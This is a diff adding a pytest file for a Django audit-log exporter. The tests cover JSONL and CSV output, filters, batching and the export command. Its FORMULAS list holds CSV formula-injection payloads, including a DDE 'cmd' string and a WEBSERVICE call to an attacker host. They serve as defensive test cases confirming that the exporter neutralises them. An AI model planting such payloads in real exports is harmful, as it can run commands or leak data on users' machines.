@@ -1,0 +1,130 @@
+"""What leaves the record: one line an entry, no formulas, nothing lost."""
+
+import csv
+import io
+import json
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from audit import chain, export, record
+from audit.export import Filter, Format
+from audit.models import Entry
+from tests.audit.conftest import FULL
+from tests.audit.test_record import LOG_INJECTION
+
+# Rows of threat T-23, our own.
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1+1",
+    "\n=1",
+    "  =1",
+    '=WEBSERVICE("https://attacker.example")',
+    "＝1+1",
+]
+PLAIN = ["ada@example.com", "5 > 3", "a=b", "a,b", 'say "hi"', "it's", ""]
+
+
+def exported(form: Format, **wanted: object) -> list[dict]:
+    text = "".join(export.lines(Filter(**wanted), form))
+    if form is Format.CSV:
+        return list(csv.DictReader(io.StringIO(text)))
+    return [json.loads(line) for line in text.splitlines()]
+
+
+def test_json_lines_hold_every_column(db: None) -> None:
+    entry = record.write("call.called", "ok", **FULL)
+    [row] = exported(Format.JSONL)
+    assert list(row) == ["id", *Entry.columns(), "digest"]
+    assert row["arguments"] == FULL["arguments"]
+    assert row["cost"] == "0.00390000"
+    assert row["at"] == chain.plain(entry.at)
+
+
+def test_csv_holds_every_column(db: None) -> None:
+    entry = record.write("call.called", "ok", **FULL)
+    [row] = exported(Format.CSV)
+    assert list(row) == ["id", *Entry.columns(), "digest"]
+    assert row["id"] == str(entry.pk)
+    assert row["arguments"] == '{"database":"sales","limit":5}'
+    assert (row["cost"], row["cache_write_tokens"]) == ("0.00390000", "")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_text(db: None, text: str) -> None:
+    assert text.lstrip()[0] in "=+-@＝", "this row could do no harm"
+    record.write("call.called", "ok", tool=text, result=text)
+    [row] = exported(Format.CSV)
+    assert [row["tool"][0], row["preview"][0]] == ["'", "'"]
+    assert [item["tool"] for item in exported(Format.JSONL)] == [text]
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_a_harmless_cell_stays_as_it_is(db: None, text: str) -> None:
+    record.write("call.called", "ok", tool=text)
+    assert [row["tool"] for row in exported(Format.CSV)] == [text]
+
+
+@pytest.mark.parametrize("form", list(Format))
+@pytest.mark.parametrize("text", LOG_INJECTION)
+def test_a_hostile_text_stays_on_one_line(db: None, form: Format, text: str) -> None:
+    record.write("auth.refused", "refused", who=record.Who(user_agent=text), result=text)
+    lines = list(export.lines(Filter(), form))[-1:]
+    assert lines[0].endswith("\n")
+    body = lines[0][:-1]
+    assert all(character.isprintable() for character in body)
+    assert len(exported(form)) == 1
+
+
+def test_filters_choose_entries(db: None) -> None:
+    for person in ("ada", "bob"):
+        record.write("auth.login", "ok", who=record.Who(person=person))
+    record.write("auth.logout", "ok", who=record.Who(person="bob"))
+    first, second, third = Entry.objects.order_by("id")
+    hour = timedelta(hours=1)
+    assert [row["id"] for row in exported(Format.JSONL, person="bob")] == [second.pk, third.pk]
+    assert [row["id"] for row in exported(Format.JSONL, kind="auth.login")] == [first.pk, second.pk]
+    assert [row["id"] for row in exported(Format.JSONL, since=second.at)] == [second.pk, third.pk]
+    assert [row["id"] for row in exported(Format.JSONL, until=second.at)] == [first.pk]
+    assert exported(Format.JSONL, since=third.at + hour) == []
+
+
+def test_entries_are_read_in_batches(db: None, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "BATCH", 10)
+    record.write_many(record.prepare("auth.login", "ok") for _ in range(25))
+    with CaptureQueriesContext(
+        connection,
+    ) as queries:
+        lines = export.lines(Filter(), Format.JSONL)
+        for _ in range(5):
+            next(lines)
+        assert len(queries) == 1
+        assert len(list(lines)) == 20
+    assert len(queries) == 4
+
+
+# --- The command ----------------------------------------------------------------------------------
+def test_the_command_prints_and_records_the_export(db: None, capsys: pytest.CaptureFixture) -> None:
+    entry = record.write("auth.login", "ok", who=record.Who(person="ada"))
+    call_command("export_audit", "--person", "ada", "--since", "2020-01-01", "--format", "jsonl")
+    [line] = capsys.readouterr().out.splitlines()
+    assert json.loads(line)["id"] == entry.pk
+    noted = Entry.objects.get(kind="record.exported")
+    since = str(datetime(2020, 1, 1, tzinfo=UTC))
+    assert noted.detail == {"format": "jsonl", "person": "ada", "since": since}
+
+
+@pytest.mark.parametrize(
+    "arguments", [["--since", "yesterday"], ["--format", "xml"], ["--kind", "auth.logon"]]
+)
+def test_the_command_refuses_what_it_does_not_know(db: None, arguments: list[str]) -> None:
+    with pytest.raises(CommandError):
+        call_command("export_audit", *arguments)
+    assert Entry.objects.count() == 0
